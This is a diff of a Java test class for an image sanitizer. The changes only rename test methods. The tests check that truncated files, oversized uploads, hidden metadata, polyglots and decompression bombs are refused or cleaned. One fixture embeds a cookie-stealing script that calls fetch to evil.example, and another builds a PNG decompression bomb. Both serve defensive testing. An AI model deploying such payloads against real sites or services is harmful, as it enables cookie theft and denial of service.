@@ -115,7 +115,7 @@ class HostileInputsTest {
 
     @ParameterizedTest(name = "selfie: {0}")
     @MethodSource("refused")
-    void aHostileSelfieIsRefusedWithASentence(String what, byte[] content, String says) {
+    void a_hostile_selfie_is_refused_with_a_sentence(String what, byte[] content, String says) {
         PhotoSanitizer.Outcome outcome = neverThrows(() -> sanitizer.sanitizeSelfie(new ByteArrayInputStream(content)));
 
         assertThat(rejected(outcome)).contains(says);
@@ -129,7 +129,7 @@ class HostileInputsTest {
      */
     @ParameterizedTest(name = "cut at {0} of the file")
     @ValueSource(doubles = {0.3, 0.5, 0.7, 0.9})
-    void aJpegCutShortWithAnEndMarkerStuckOnIsRefusedOrSanitisedNeverPassedOn(double cut) {
+    void a_jpeg_cut_short_with_an_end_marker_stuck_on_is_refused_or_sanitised_never_passed_on(double cut) {
         byte[] full = withEveryKindOfMetadata(jpeg(W, H));
         byte[] patched = concat(Arrays.copyOf(full, (int) (full.length * cut)), new byte[] {(byte) 0xFF, (byte) 0xD9});
 
@@ -149,14 +149,14 @@ class HostileInputsTest {
 
     @ParameterizedTest(name = "headshot: {0}")
     @MethodSource("refused")
-    void aHostileHeadshotIsRefusedWithASentence(String what, byte[] content, String says) {
+    void a_hostile_headshot_is_refused_with_a_sentence(String what, byte[] content, String says) {
         PhotoSanitizer.Outcome outcome = neverThrows(() -> sanitizer.markHeadshot(new ByteArrayInputStream(content), new AiMarker(UUID.randomUUID())));
 
         assertThat(rejected(outcome)).contains(says);
     }
 
     @Test
-    void aFileOver15MbIsRefusedAfterReadingNoMoreThan15MbAndOneByte() {
+    void a_file_over15_mb_is_refused_after_reading_no_more_than15_mb_and_one_byte() {
         byte[] jpeg = jpeg(W, H);
         AtomicLong served = new AtomicLong();
         long size = 16L << 20;
@@ -189,7 +189,7 @@ class HostileInputsTest {
     }
 
     @Test
-    void aFileOfExactly15MbIsNotRefusedForItsSize() {
+    void a_file_of_exactly15_mb_is_not_refused_for_its_size() {
         byte[] jpeg = jpeg(W, H);
         // a real JPEG padded with trailing bytes after its end marker to exactly the limit
         byte[] atLimit = Arrays.copyOf(jpeg, ImageSanitizer.MAX_BYTES);
@@ -211,13 +211,13 @@ class HostileInputsTest {
 
     @ParameterizedTest(name = "{0}")
     @MethodSource("breakingUploads")
-    void anUploadThatBreaksOffIsRefusedAsBrokenOff(String what, InputStream upload) {
+    void an_upload_that_breaks_off_is_refused_as_broken_off(String what, InputStream upload) {
         assertThat(rejected(neverThrows(() -> sanitizer.sanitizeSelfie(upload))))
                 .isEqualTo("The upload stopped before the whole photo arrived; please try again.");
     }
 
     @Test
-    void aGeneratedImageThatBreaksOffIsRefusedToo() {
+    void a_generated_image_that_breaks_off_is_refused_too() {
         byte[] png = png(W, H);
 
         assertThat(rejected(neverThrows(() -> sanitizer.markHeadshot(
@@ -228,7 +228,7 @@ class HostileInputsTest {
     // ---- cleaned --------------------------------------------------------------------------------
 
     @Test
-    void exifWithGpsAndAThumbnailXmpIptcAnIccCommentAndACommentAreAllGone() {
+    void exif_with_gps_and_a_thumbnail_xmp_iptc_an_icc_comment_and_a_comment_are_all_gone() {
         byte[] planted = ImageSanitizerFixtures.withEveryKindOfMetadata(jpeg(W, H));
         assertThat(directories(planted)).as("the fixture plants every kind")
                 .anyMatch(GpsDirectory.class::isInstance).anyMatch(ExifThumbnailDirectory.class::isInstance)
@@ -245,7 +245,7 @@ class HostileInputsTest {
     }
 
     @Test
-    void hundredsOfHugeMetadataSegmentsAreDroppedWithoutTrouble() {
+    void hundreds_of_huge_metadata_segments_are_dropped_without_trouble() {
         SplittableRandom random = new SplittableRandom(7);
         ByteArrayOutputStream segments = new ByteArrayOutputStream();
         for (int i = 0; i < 200; i++) {
@@ -273,7 +273,7 @@ class HostileInputsTest {
     }
 
     @Test
-    void aZipHiddenAfterAPngIsNotPassedOn() {
+    void a_zip_hidden_after_a_png_is_not_passed_on() {
         byte[] polyglot = concat(png(W, H), zip());
         assertThat(latin1(polyglot)).as("fixture: a PNG that is also a ZIP").contains("PK\u0003\u0004");
 
@@ -287,7 +287,7 @@ class HostileInputsTest {
     }
 
     @Test
-    void htmlHiddenInAJpegCommentAndAfterItsEndIsNotPassedOn() {
+    void html_hidden_in_a_jpeg_comment_and_after_its_end_is_not_passed_on() {
         String html = "<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>";
         byte[] polyglot = concat(insertAfterSoi(jpeg(W, H), segment(0xFE, ascii(html))), ascii(html));
         assertThat(latin1(polyglot)).as("fixture").contains("<script>");
@@ -303,7 +303,7 @@ class HostileInputsTest {
     }
 
     @Test
-    void aPngWhoseDataInflatesFarBeyondItsHeaderIsDecodedOnlyAsFarAsTheHeaderSays() {
+    void a_png_whose_data_inflates_far_beyond_its_header_is_decoded_only_as_far_as_the_header_says() {
         // 1000 x 1000 RGB needs 3 MB inflated; the data inflates to 256 MB (about 250 KB compressed).
         byte[] bomb = png(ihdr(1_000, 1_000), deflatedZeros(256L << 20));
         assertThat(bomb.length).isLessThan(1_000_000);
@@ -316,7 +316,7 @@ class HostileInputsTest {
     }
 
     @Test
-    void aLargeButHonestPngIsDecodedSubsampledSoItsLongerSideIsAtMost4096() {
+    void a_large_but_honest_png_is_decoded_subsampled_so_its_longer_side_is_at_most4096() {
         // 6000 x 6000 (36 megapixels, under the limit): decoded whole it would take 144 MB of heap.
         int side = 6_000;
         byte[] large = png(ihdr(side, side), deflatedZeros((long) side * (3L * side + 1)));
